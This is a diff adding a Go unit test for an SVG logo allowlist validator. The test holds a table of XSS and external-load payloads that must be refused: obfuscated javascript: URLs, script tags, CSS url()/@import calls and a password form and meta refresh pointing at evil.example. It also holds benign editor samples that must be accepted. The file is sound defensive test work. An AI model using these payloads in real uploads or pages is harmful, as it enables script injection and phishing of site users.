@@ -1,0 +1,62 @@
+package config
+
+import (
+	"strings"
+	"testing"
+)
+
+const svgOpen = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 32 32">`
+
+// TestSVGLogoAllowlist: what an attacker (or a careless export) could put
+// in an SVG logo to load or run something is refused, however spelled;
+// what real editors write is accepted.
+func TestSVGLogoAllowlist(t *testing.T) {
+	refused := map[string]string{
+		"script":                 `<script>alert(1)</script>`,
+		"script, other case":     `<SCRIPT>alert(1)</SCRIPT>`,
+		"set to javascript":      `<a xlink:href="#x"><set attributeName="href" to="java&#9;script:alert(1)"/></a>`,
+		"animate to a phishing":  `<rect><animate attributeName="href" values="https://evil.example/phish"/></rect>`,
+		"style @import":          `<style>@import url(https://evil.example/x.css);</style>`,
+		"style font":             `<style>@font-face{src:url( "https://evil.example/f.woff" )}</style>`,
+		"style url escaped":      `<style>.a{fill:u\rl(https://evil.example/)}</style>`,
+		"style attribute url":    `<rect style="fill:url(https://evil.example/)"/>`,
+		"filter url":             `<rect filter="URL( https://evil.example/f.svg#x)"/>`,
+		"mask url":               `<rect mask="url('https://evil.example/m.svg#x')"/>`,
+		"xhtml form":             `<h:form action="https://evil.example"><h:input type="password"/></h:form>`,
+		"xhtml meta refresh":     `<h:meta http-equiv="refresh" content="0;url=https://evil.example/"/>`,
+		"xml:base":               `<g xml:base="java&#10;script:alert(1)//"><use href="#x"/></g>`,
+		"use of another file":    `<use href="https://evil.example/sprite.svg#x"/>`,
+		"use with xlink, spaced": `<use xlink:href=" java script:alert(1)"/>`,
+		"namespaced handler":     `<rect xmlns:e="http://www.w3.org/2001/xml-events" e:onclick="x"/>`,
+		"foreignObject":          `<foreignObject><h:p>hi</h:p></foreignObject>`,
+		"image":                  `<image href="data:image/png;base64,AAAA"/>`,
+		"data in an attribute":   `<rect fill="url(data:image/svg+xml,x)"/>`,
+		"expression":             `<rect style="width:expression(alert(1))"/>`,
+		"unknown namespace":      `<x:thing xmlns:x="urn:x"/>`,
+		"script in metadata":     `<metadata><script>alert(1)</script></metadata>`,
+		"xhtml in metadata":      `<metadata><h:script>alert(1)</h:script></metadata>`,
+	}
+	for name, body := range refused {
+		if err := checkSVG([]byte(svgOpen + body + `</svg>`)); err == nil {
+			t.Errorf("%s: accepted", name)
+		}
+	}
+	accepted := map[string]string{
+		"shapes and gradient": `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="32" height="32" rx="6" fill="url(#g)"/><path d="M8 8h16v16z" fill="#1d4ed8"/>`,
+		"illustrator style":   `<defs><style>.cls-1{fill:#fff;}.cls-2{fill:url( '#g' );}</style></defs><title>Logo</title><circle class="cls-1" cx="16" cy="16" r="8"/>`,
+		"symbol and use":      `<symbol id="s"><rect width="4" height="4"/></symbol><use href="#s" x="2"/><use xlink:href="#s" x="8"/>`,
+		"text and filter":     `<filter id="f"><feGaussianBlur stdDeviation="1"/></filter><text x="4" y="20" filter="url(#f)">Example</text>`,
+		"inkscape metadata": `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#">` +
+			`<cc:Work rdf:about="https://example.com/logo"/></rdf:RDF></metadata><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="Layer 1"><rect width="2" height="2"/></g>`,
+	}
+	for name, body := range accepted {
+		if err := checkSVG([]byte(svgOpen + body + `</svg>`)); err != nil {
+			t.Errorf("%s: refused: %v", name, err)
+		}
+	}
+	// The message says what to do.
+	err := checkSVG([]byte(svgOpen + `<animate/></svg>`))
+	if err == nil || !strings.Contains(err.Error(), "drawing elements only") {
+		t.Errorf("animate: %v", err)
+	}
+}
